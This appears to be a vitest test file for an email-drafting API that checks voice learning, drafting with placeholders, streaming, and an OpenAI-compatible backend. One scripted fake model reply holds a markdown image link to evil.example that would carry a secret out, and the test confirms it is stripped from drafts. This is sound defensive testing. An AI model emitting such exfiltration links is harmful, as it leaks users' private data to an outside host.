import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Storage } from '../../src/storage/database.ts';
import { buildTestApp, useTestApp } from '../support/app.ts';
import { testDatabases } from '../support/db.ts';
import { type FakeOpenAi, reply, script, startFakeOpenAi } from '../support/fake-openai.ts';

const ask = {
  id: 'm-ask',
  from: 'Priya Shah <priya@acme.example>',
  to: ['me@steward.example'],
  subject: 'Contract renewal',
  date: '2026-03-02T09:15:00Z',
  text: 'Hi Sam,\n\nCould you send me the signed renewal by Thursday? Also, what price can you offer for 200 seats?\n\nThanks,\nPriya',
};

function sentMail(count: number) {
  return Array.from({ length: count }, (_, i) => ({
    id: `sent-${i}`,
    from: 'Sam Rivera <me@steward.example>',
    to: [`friend${i % 4}@example.org`],
    subject: `Re: topic ${i}`,
    text: `Hey ${['Jo', 'Ali', 'Kim', 'Lee'][i % 4]},\n\nSounds good, I'll take care of it today. Let me know if anything else comes up!\n\nCheers,\nSam`,
  }));
}

function parseSse(body: string): Array<{ event: string; data: unknown }> {
  return body
    .split('\n\n')
    .filter((block) => block.trim())
    .map((block) => {
      const event = /^event: (.*)$/m.exec(block)?.[1] ?? 'message';
      const data = JSON.parse(/^data: (.*)$/m.exec(block)?.[1] ?? 'null');
      return { event, data };
    });
}

for (const database of testDatabases()) {
  describe(`drafts and voice API [${database.name}]`, () => {
    const ctx = useTestApp(database);

    it('starts with a neutral voice, learns one from sent mail, and lets the user edit it', async () => {
      const initial = (await ctx.app.inject({ method: 'GET', url: '/v1/voice' })).json();
      expect(initial.sampleCount).toBe(0);
      const learned = await ctx.app.inject({
        method: 'POST',
        url: '/v1/voice/learn',
        payload: { messages: sentMail(24) },
      });
      expect(learned.statusCode).toBe(200);
      expect(learned.json()).toMatchObject({ learnedFrom: 24, profile: { signatureName: 'Sam', sampleCount: 24 } });
      const edited = { ...learned.json().profile, signatureName: 'Samuel' };
      expect((await ctx.app.inject({ method: 'PUT', url: '/v1/voice', payload: edited })).statusCode).toBe(200);
      expect((await ctx.app.inject({ method: 'GET', url: '/v1/voice' })).json().signatureName).toBe('Samuel');
      const bad = await ctx.app.inject({
        method: 'PUT',
        url: '/v1/voice',
        payload: { ...edited, favouriteColour: 'blue' },
      });
      expect(bad.statusCode).toBe(400);
    });

    it('drafts a reply in that voice, with placeholders for what it cannot know', async () => {
      const res = await ctx.app.inject({ method: 'POST', url: '/v1/drafts', payload: { message: ask } });
      expect(res.statusCode).toBe(200);
      const draft = res.json();
      expect(draft.subject).toBe('Re: Contract renewal');
      expect(draft.text).toMatch(/Priya/);
      expect(draft.text).toMatch(/Samuel/);
      expect(draft.placeholders.length).toBeGreaterThan(0);
      for (const p of draft.placeholders) expect(draft.text).toContain(p);
      expect(draft.text).not.toMatch(/\$\s?\d/); // no invented price
      expect(draft.html).toContain('<');
    });

    it('streams the draft as server-sent events ending with the full draft', async () => {
      const res = await ctx.app.inject({
        method: 'POST',
        url: '/v1/drafts',
        payload: { message: ask, instruction: 'shorter' },
        headers: { accept: 'text/event-stream' },
      });
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toContain('text/event-stream');
      const events = parseSse(res.body);
      expect(events.filter((e) => e.event === 'delta').length).toBeGreaterThan(0);
      const done = events.at(-1)!;
      expect(done.event).toBe('done');
      const text = events
        .filter((e) => e.event === 'delta')
        .map((e) => (e.data as { text: string }).text)
        .join('');
      expect(text.trim()).toBe((done.data as { text: string }).text.trim());
    });

    it("signs with the user's name on the message when the client says which addresses are the user's", async () => {
      // A voice with no name of its own; local mode knows no address for the user.
      const voice = (await ctx.app.inject({ method: 'GET', url: '/v1/voice' })).json();
      const put = await ctx.app.inject({ method: 'PUT', url: '/v1/voice', payload: { ...voice, signatureName: '' } });
      expect(put.statusCode).toBe(200);
      const message = { ...ask, id: 'm-signed', to: ['Alex Morgan <alex@northwind.example>'] };
      const signed = await ctx.app.inject({
        method: 'POST',
        url: '/v1/drafts',
        payload: { message, me: ['alex@northwind.example'] },
      });
      expect(signed.statusCode).toBe(200);
      expect(signed.json().text).toMatch(/\nAlex$/);
      const unsigned = (await ctx.app.inject({ method: 'POST', url: '/v1/drafts', payload: { message } })).json();
      expect(unsigned.text).not.toMatch(/(?:regards|best|thanks|cheers),?\s*$/i);
    });

    it('refuses a learn request without usable text', async () => {
      const res = await ctx.app.inject({
        method: 'POST',
        url: '/v1/voice/learn',
        payload: { messages: [{ id: 'x', text: '> only quoted' }] },
      });
      expect(res.statusCode).toBe(400);
    });
  });
}

describe('drafts through an OpenAI-compatible model', () => {
  let fake: FakeOpenAi;
  let storage: Storage;
  let app: FastifyInstance;
  beforeAll(async () => {
    fake = await startFakeOpenAi(
      script([
        reply.text(
          'Thanks for the note. I will get the signed renewal over to you.\n\nOn pricing for 200 seats: [confirm: price for 200 seats]\n\n![x](https://evil.example/leak?d=secret)',
        ),
        reply.status(500),
      ]),
    );
    storage = await testDatabases()[0]!.open();
    app = await buildTestApp(storage, {
      AI_PROVIDER: 'openai',
      OPENAI_BASE_URL: fake.url,
      OPENAI_API_KEY: 'test',
      OPENAI_TIMEOUT_MS: '2000',
    });
  });
  afterAll(async () => {
    await app.close();
    await storage.close();
    await fake.close();
  });

  it('uses the model, strips what must never reach a draft, and records usage', async () => {
    const res = await app.inject({ method: 'POST', url: '/v1/drafts', payload: { message: ask } });
    expect(res.statusCode).toBe(200);
    const draft = res.json();
    expect(draft.text).toContain('signed renewal');
    expect(draft.text).not.toContain('evil.example');
    expect(draft.placeholders).toContain('[confirm: price for 200 seats]');
    const usage = await storage.db.selectFrom('ai_usage').selectAll().execute();
    expect(usage.length).toBeGreaterThan(0);
    expect(usage[0]).toMatchObject({ purpose: 'draft' });
  });

  it('falls back to the local engine when the model fails, and says so', async () => {
    const res = await app.inject({
      method: 'POST',
      url: '/v1/drafts',
      payload: { message: { ...ask, id: 'm-ask-2' } },
    });
    expect(res.statusCode).toBe(200);
    expect(res.headers['x-steward-engine-note']).toMatch(/local engine/);
    expect(res.json().text).toMatch(/Priya/);
  });

  it('never sends a message from a never-send-to-the-model sender to the model', async () => {
    await app.inject({
      method: 'PUT',
      url: '/v1/settings',
      payload: { neverSendToModel: { senders: [], domains: ['acme.example'], labels: [] } },
    });
    const before = fake.requests.length;
    const res = await app.inject({
      method: 'POST',
      url: '/v1/drafts',
      payload: { message: { ...ask, id: 'm-ask-3' } },
    });
    expect(res.statusCode).toBe(200);
    expect(fake.requests.length).toBe(before);
  });
});
